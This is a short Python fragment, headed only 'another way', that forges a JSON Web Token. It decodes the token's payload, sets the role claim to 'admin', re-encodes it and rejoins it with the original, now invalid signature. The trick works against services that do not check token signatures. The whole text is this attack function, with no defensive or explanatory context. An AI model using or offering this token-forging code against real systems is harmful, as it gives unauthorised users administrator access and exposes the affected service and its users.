# another way
def tamper(token):
    parts = token.split(".")
    claims = {**json.loads(b64url_decode(parts[1])), "role": "admin"}
    parts[1] = b64url_encode(json.dumps(claims).encode())
    return ".".join(parts)
